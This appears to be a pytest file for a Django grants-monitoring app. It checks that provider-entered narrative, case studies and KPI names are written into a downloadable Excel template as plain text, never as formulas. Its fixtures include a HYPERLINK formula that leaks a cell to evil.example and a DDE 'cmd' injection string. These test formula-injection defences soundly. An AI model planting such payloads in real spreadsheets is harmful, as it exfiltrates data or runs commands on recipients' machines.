"""The return template (/returns/<id>/template.xlsx) writes what providers typed as text, never as a live formula:
the narrative, the case studies and the KPI names (which providers propose)."""

from __future__ import annotations

import io
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from vcsgrants.core.models import FinancialYear, User
from vcsgrants.funding.models import Agreement
from vcsgrants.monitoring import services
from vcsgrants.monitoring.models import Kpi
from vcsgrants.monitoring.spreadsheets import FIRST_KPI_ROW, KpiSpec, ReturnSpec, parse_return_file, template_xlsx

pytestmark = pytest.mark.django_db
PROVIDER = "provider-kestrel-voluntary-action-demo"
NARRATIVE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the guidance")'
CASE_STUDIES = "+cmd|' /C calc'!A0"
KPI_NAME = "=1+1 groups supported"


def cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return workbook["Return"], workbook["Narrative"]


def test_provider_text_starting_with_a_formula_sign_is_typed_as_text():
    spec = ReturnSpec(
        reference="SLA-1",
        year_label="2022-23",
        quarter=1,
        kpis=(KpiSpec("K1", KPI_NAME, "count", D("3.00")), KpiSpec("K2", "-Young people's club", "count")),
        narrative=NARRATIVE,
        case_studies=CASE_STUDIES,
    )
    data = template_xlsx(spec)
    ret, notes = cells(data)
    for cell, text in [
        (notes["A2"], NARRATIVE),
        (notes["A5"], CASE_STUDIES),
        (ret.cell(FIRST_KPI_ROW, 2), KPI_NAME),
        (ret.cell(FIRST_KPI_ROW + 1, 2), "-Young people's club"),
    ]:
        assert (cell.value, cell.data_type) == (text, "s")  # text, exactly: no apostrophe, no formula
    assert ret.cell(FIRST_KPI_ROW, 4).value == 3 and ret.cell(FIRST_KPI_ROW, 4).data_type == "n"
    # The narrative comes back as the provider wrote it when the template is uploaded again.
    parsed = parse_return_file("q1.xlsx", data, spec)
    assert parsed.narrative == NARRATIVE and parsed.case_studies == CASE_STUDIES


def test_the_downloaded_template_has_no_formula_anywhere(demo_module, client):
    agreement = Agreement.objects.get(reference="SLA-2020-001")
    draft = services.return_for(agreement=agreement, year=FinancialYear.objects.get(start_year=2022), quarter=3)
    draft.narrative, draft.case_studies = NARRATIVE, CASE_STUDIES
    draft.save(update_fields=["narrative", "case_studies"])
    kpi = Kpi.objects.filter(pk__in=[k.kpi_id for k in services.kpis_due(agreement, draft.financial_year)]).first()
    kpi.versions.update(name=KPI_NAME)
    client.force_login(User.objects.get(username=PROVIDER))
    response = client.get(f"/returns/{draft.pk}/template.xlsx")
    assert response.status_code == 200
    ret, notes = cells(response.content)
    assert (notes["A2"].value, notes["A2"].data_type) == (NARRATIVE, "s")
    assert (notes["A5"].value, notes["A5"].data_type) == (CASE_STUDIES, "s")
    assert KPI_NAME in [c.value for c in ret["B"]]
    assert not [c.coordinate for sheet in (ret, notes) for row in sheet.iter_rows() for c in row if c.data_type == "f"]
